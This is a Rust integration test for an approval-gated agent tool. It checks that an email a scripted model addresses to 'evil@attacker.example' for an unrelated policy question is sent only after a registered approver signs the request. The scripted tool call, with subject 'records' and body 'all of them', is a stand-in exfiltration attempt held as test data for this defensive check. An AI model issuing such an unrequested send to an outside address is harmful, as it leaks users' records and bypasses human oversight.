//! No blind confirmation: a PolicyPal card that would write is an approval request. A
//! model behind a loopback server picks `evil@attacker.example` for a goal that never
//! asked for mail; `run --design policypal --card confirm` does not send it without a
//! signed decision: without a key it is refused before anything runs, with the
//! requester's own key it is `self_approval` (the request is filed, nothing runs), and
//! only the registered approver's signed approval runs exactly the card's call, once.

use serde_json::json;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use crate::http_server::{Server, text, tool_call};
use crate::util::{register_lena, temp_dir};

const KEY: &str = "designs-card test signing key, not a real secret";
const GOAL: &str = "What does the returns policy say for T-601?";

fn script() -> (Vec<crate::http_server::Reply>, Option<crate::http_server::Reply>) {
    let send =
        json!({"to": "evil@attacker.example", "subject": "records", "body": "all of them", "idempotency_key": "m1"});
    let finish = r#"{"action":"finish","answer":"Sent the draft.","sources":["o1"]}"#;
    (vec![tool_call("send_email_draft", send, Some((10, 5)))], Some(text(finish, Some((10, 2)))))
}

/// Runs the PolicyPal design against a fresh scripted server, with `extra` flags.
async fn policypal(store: &Path, extra: &[&str]) -> (Output, usize) {
    let (script, fallback) = script();
    let server = Server::start(script, fallback).await;
    let mut args: Vec<String> = ["run", "--design", "policypal", "--model", "openai:local-model", "--zero-price"]
        .iter()
        .map(|s| (*s).to_string())
        .collect();
    args.extend(["--base-url".into(), server.base_url.clone(), "--store".into(), store.display().to_string()]);
    args.extend(extra.iter().map(|s| (*s).to_string()));
    args.push(GOAL.into());
    let dir: PathBuf = store.parent().unwrap().to_path_buf();
    let out = tokio::task::spawn_blocking(move || {
        Command::new(env!("CARGO_BIN_EXE_rolegate"))
            .current_dir(dir)
            .args(&args)
            .env("ROLEGATE_SIGNING_KEY", KEY)
            .env_remove("ROLEGATE_SIGNING_KEY_FILE")
            .env_remove("ROLEGATE_API_KEY")
            .env_remove("ROLEGATE_TEST_CRASH_AT")
            .output()
            .unwrap()
    })
    .await
    .unwrap();
    (out, server.seen().len())
}

fn rolegate(store: &Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_rolegate"))
        .current_dir(store.parent().unwrap())
        .args(args)
        .arg("--store")
        .arg(store)
        .env("ROLEGATE_SIGNING_KEY", KEY)
        .env_remove("ROLEGATE_SIGNING_KEY_FILE")
        .output()
        .unwrap()
}

fn text_of(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

fn sent_to(store: &Path) -> Vec<String> {
    let out = rolegate(store, &["outbox", "--format", "json"]);
    assert_eq!(out.status.code(), Some(0), "{}", text_of(&out.stderr));
    let list: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    list.as_array().unwrap().iter().map(|e| e["to"].as_str().unwrap().to_string()).collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_model_chosen_address_does_not_leave_without_a_signed_decision() {
    let store = temp_dir("card-evil").join("rolegate.db");
    register_lena(&store, KEY);
    assert_eq!(rolegate(&store, &["approvers", "add", "kwame", "--key-out", "kwame.key"]).status.code(), Some(0));

    // --card confirm without a key: refused before the model is asked, nothing runs
    let (out, asked) = policypal(&store, &["--card", "confirm"]).await;
    assert_eq!(out.status.code(), Some(2), "{}", text_of(&out.stdout));
    assert!(text_of(&out.stderr).contains("no_key") && text_of(&out.stderr).contains("nothing ran"));
    assert_eq!(asked, 0);
    assert!(sent_to(&store).is_empty());

    // the requester's own key: the card is filed as a request, and refused as self-approval
    let (out, _) = policypal(&store, &["--card", "confirm", "--key", "kwame.key"]).await;
    let printed = text_of(&out.stdout);
    assert_eq!(out.status.code(), Some(1), "{printed}{}", text_of(&out.stderr));
    assert!(printed.contains("to: evil@attacker.example"), "the card shows the exact address: {printed}");
    assert!(printed.contains("req-1 approve by kwame: self_approval (refused: nothing ran)"), "{printed}");
    assert!(printed.contains("emails=0"), "{printed}");
    assert!(sent_to(&store).is_empty(), "the model-chosen address did not get mail");
    let list = text_of(&rolegate(&store, &["approvals", "list"]).stdout);
    assert!(list.contains("req-1   pending") && list.contains("evil@attacker.example"), "{list}");

    // no --card: the card is shown and the run stops; nothing is sent
    let (out, _) = policypal(&store, &[]).await;
    assert_eq!(out.status.code(), Some(0));
    assert!(text_of(&out.stdout).contains("emails=0"));
    assert!(sent_to(&store).is_empty());

    // the registered approver signs: exactly the card's call runs, once
    let (out, _) = policypal(&store, &["--card", "confirm", "--key", "lena.key"]).await;
    let printed = text_of(&out.stdout);
    assert_eq!(out.status.code(), Some(0), "{printed}{}", text_of(&out.stderr));
    assert!(printed.contains("req-2 approve by lena: ok") && printed.contains("emails=1"), "{printed}");
    assert_eq!(sent_to(&store), ["evil@attacker.example"], "what lena read and signed, nothing else");
    let check = rolegate(&store, &["store", "check"]);
    assert_eq!(check.status.code(), Some(0), "lena's signed decision verifies: {}", text_of(&check.stdout));
}
